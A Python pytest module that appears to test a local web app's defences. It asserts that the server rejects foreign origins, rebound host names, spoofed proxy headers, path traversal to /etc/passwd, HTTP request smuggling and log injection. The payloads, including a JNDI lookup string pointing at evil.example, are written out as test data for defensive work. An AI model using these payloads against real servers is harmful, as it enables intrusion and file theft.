"""Attacks that want in: by names, origins, headers, cookies, paths and texts that pretend to be something else."""

import json
import re

from tests.attacks.arena import Arena
from tests.room import LAPTOP, needs_a_room
from tests.stage import ROOT

pytestmark = needs_a_room

POLLING = "/socket.io/?EIO=4&transport=polling"
SOCKET = "/socket.io/?EIO=4&transport=websocket"
UPGRADE = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
)
PATHS = ["/", "/health", "/join-code", "/join-code.svg", "/static/js/main.js", POLLING, "/nothing"]
OF_THE_SHOW = ("slider1", "Attacked", "beat")


def status(answer: str) -> int:
    """The status of an answer."""
    return int(answer.split(" ", 2)[1])


def on_all_paths(arena: Arena, *headers: str, host: str = "") -> set[int]:
    """Ask for everything with these headers, also for a WebSocket; returns the statuses."""
    said = [f"Host: {host or arena.host}", *headers]
    asked = [["GET", path, *said] for path in PATHS]
    asked += [["POST", "/join", *said, "Content-Length: 0"], ["POST", POLLING, *said, "Content-Length: 0"]]
    asked += [["GET", SOCKET, *said, *UPGRADE], ["OPTIONS", POLLING, *said, "Access-Control-Request-Method: POST"]]
    raw = [f"{method} {path} HTTP/1.1\r\n" + "\r\n".join(lines) + "\r\n\r\n" for method, path, *lines in asked]
    answers = arena.attack("requests", raw=raw)
    for answer in answers:
        assert not any(word in answer.partition("\r\n\r\n")[2] for word in OF_THE_SHOW)
        assert "Access-Control-Allow-Origin" not in answer
        assert "Content-Security-Policy: default-src 'none'" in answer or status(answer) == 101
        assert "X-Content-Type-Options: nosniff" in answer or status(answer) == 101
    return {status(answer) for answer in answers}


ORIGINS = ("http://evil.example", "null", "", "https://{host}", "http://{host}.evil.example")


def test_a_foreign_origin(attacked: Arena) -> None:
    cookie = f"Cookie: {attacked.cookie()}"
    for origin in ORIGINS:
        said = f"Origin: {origin.format(host=attacked.host)}"
        assert on_all_paths(attacked, said) == on_all_paths(attacked, said, cookie) == {403}


NAMES = ("evil.example:{port}", "{ip}", "{ip}:80", "127.0.0.1", "{ip}:{port}.evil.example")


def test_a_rebound_name(attacked: Arena) -> None:
    for name in NAMES:
        assert on_all_paths(attacked, host=name.format(port=attacked.server.port, ip=LAPTOP)) == {403}


def test_no_origin_and_no_key(attacked: Arena) -> None:
    assert on_all_paths(attacked) <= {101, 200, 204, 400, 401, 403, 404, 405, 415}
    opened = attacked.asks("GET", POLLING)
    found = re.search(r'"sid":"([^"]+)"', opened)
    assert found
    for namespace in ("", "/stage,", "/test,", "/nowhere,"):
        auth = json.dumps({"session": "session-1", "key": "x" * 32})
        said = attacked.asks(
            "POST", f"{POLLING}&sid={found[1]}", "Content-Type: text/plain", body=f"40{namespace}{auth}"
        )
        assert status(said) == 200
    heard = attacked.asks("GET", f"{POLLING}&sid={found[1]}").partition("\r\n\r\n")[2]
    assert heard.count("44") >= 4, "each was refused"
    assert not any(word in heard for word in OF_THE_SHOW)


PROXIES = (
    "X-Forwarded-For: 127.0.0.1",
    "X-Real-IP: 127.0.0.1",
    "Forwarded: for=127.0.0.1;host=localhost",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Proto: https",
    "X_Forwarded_For: 127.0.0.1",
    "REMOTE_ADDR: 127.0.0.1",
    "X-Original-URL: /join-code",
    "X-HTTP-Method-Override: POST",
)


def test_what_proxies_say_is_not_heard(attacked: Arena) -> None:
    # Each page has the time, and an id of its own visit.
    changing = re.compile('Date: .*|data-visit="[^"]*"')
    plain = changing.sub("", attacked.asks("GET", "/"))
    for header in PROXIES:
        forged = attacked.asks("GET", "/", header)
        assert changing.sub("", forged) == plain
        assert status(forged) == 401
        assert status(attacked.asks("GET", "/join-code", header)) == 403


def test_a_name_in_the_request_line_is_looked_at_as_well(attacked: Arena) -> None:
    assert status(attacked.asks("GET", "http://evil.example/health")) == 403
    assert status(attacked.asks("GET", "//evil.example/health")) in (403, 404)


def test_polling_by_script(attacked: Arena) -> None:
    for query in ("&j=0", "&j", "&%6a=1", "&J=0&j=0"):
        answer = attacked.asks("GET", f"{POLLING}{query}")
        assert status(answer) == 403
        assert "___eio" not in answer


def test_a_request_from_another_site(attacked: Arena) -> None:
    for mode in ("no-cors", "cors", "navigate"):
        headers = ("Sec-Fetch-Site: cross-site", f"Sec-Fetch-Mode: {mode}", "Sec-Fetch-Dest: iframe")
        assert on_all_paths(attacked, *headers) == {403}
        assert on_all_paths(attacked, *headers, f"Cookie: {attacked.cookie()}") == {403}


COOKIES = ("sidestage_00000000={key}", "{name}={key}x", "{name}=", '{name}="', "{name}x={key};{name}=x")


def test_a_cookie_of_another_installation(attacked: Arena) -> None:
    name, _, key = attacked.cookie().partition("=")
    for cookie in COOKIES:
        said = attacked.asks("GET", "/", f"Cookie: {cookie.format(name=name, key=key)}")
        assert status(said) == 401
        assert not any(word in said for word in OF_THE_SHOW)


OUTWARDS = (
    "/static/../../CONTRIBUTING.md",
    "/static/%2e%2e/%2e%2e/CONTRIBUTING.md",
    "/static/..%2f..%2fCONTRIBUTING.md",
    "/static/..%5c..%5cCONTRIBUTING.md",
    "/static/%252e%252e/%252e%252e/CONTRIBUTING.md",
    "/static//etc/passwd",
    "/static/%2fetc/passwd",
    "/static/js/..;/..;/..;/CONTRIBUTING.md",
    "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/CONTRIBUTING.md",
    "/static/js/main.js%00.txt",
    "/static/",
    "/static",
    "/static/../templates/surface.html",
    "/../../../../etc/passwd",
    "file:///etc/passwd",
    "/static/js/",
    "/static/" + "../" * 500 + "etc/passwd",
    "/static/" + "a" * 5000,
)


def test_a_path_that_leads_out(attacked: Arena) -> None:
    law = (ROOT / "CONTRIBUTING.md").read_text("utf-8").splitlines()[0]
    raw = [f"GET {path} HTTP/1.1\r\nHost: {attacked.host}\r\n\r\n" for path in OUTWARDS]
    for answer in attacked.attack("requests", raw=raw):
        # 308 leads to the same path with single slashes, on this server.
        assert status(answer) in (308, 400, 403, 404, 414), answer[:200]
        assert status(answer) != 308 or f"Location: {attacked.url}static/" in answer
        assert not any(word in answer for word in (law, "root:", "{%"))


METHODS = ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "X" * 100)


def test_a_method_that_nobody_needs(attacked: Arena) -> None:
    for method in METHODS:
        answer = attacked.asks(method, "/")
        assert status(answer) in (400, 405, 501)
        assert attacked.host not in answer, "nothing is echoed"


def test_two_requests_in_one(attacked: Arena) -> None:
    inner = f"GET /health HTTP/1.1\r\nHost: {attacked.host}\r\n\r\n"
    for headers in (
        ["Content-Length: 4", f"Content-Length: {len(inner)}"],
        ["Transfer-Encoding: chunked", f"Content-Length: {len(inner)}"],
        ["Transfer-Encoding : chunked"],
        ["Content-Length: -1"],
        ["Content-Length: 9e9"],
        [f"Content-Length: {'9' * 100}"],
    ):
        head = "\r\n".join(
            ["POST /join HTTP/1.1", f"Host: {attacked.host}", "Content-Type: application/json", *headers]
        )
        (answer,) = attacked.attack("requests", raw=[f"{head}\r\n\r\n0\r\n\r\n{inner}"])
        assert answer.count("HTTP/1.") == 1, "there was one request"


EVIL_LINES = [
    "\x1b[2J\x1b]0;owned\x07",
    "x\r\n2026 ERROR all is lost",
    "\x00\x08\x08\x08",
    "%s%n%d{0}${jndi:ldap://evil.example}",
    "\u202egnp.exe",
]


def test_what_is_logged_is_one_plain_line(attacked: Arena) -> None:
    cookie = attacked.cookie()
    for text in EVIL_LINES:
        latin = text.encode("utf-8").decode("latin-1")
        head = f" HTTP/1.1\r\nHost: {attacked.host}\r\n"
        raw = [f"GET /{latin}{head}\r\n", f"{latin} /{head}\r\n", f"GET / HTTP/1.1\r\nHost: {latin}\r\n\r\n"]
        raw.append(f"GET /{head}User-Agent: {latin}\r\nCookie: {latin}\r\n\r\n")
        attacked.attack("requests", raw=raw)
        said = json.dumps({"who": text, "data": text})
        attacked.attack("messages", cookie=cookie, texts=[f'42["value changed",{said}]', f"42[{json.dumps(text)}]"])
    for line in attacked.said():
        assert line.rstrip("\n").isprintable(), ascii(line)
        assert not line.startswith("2026")
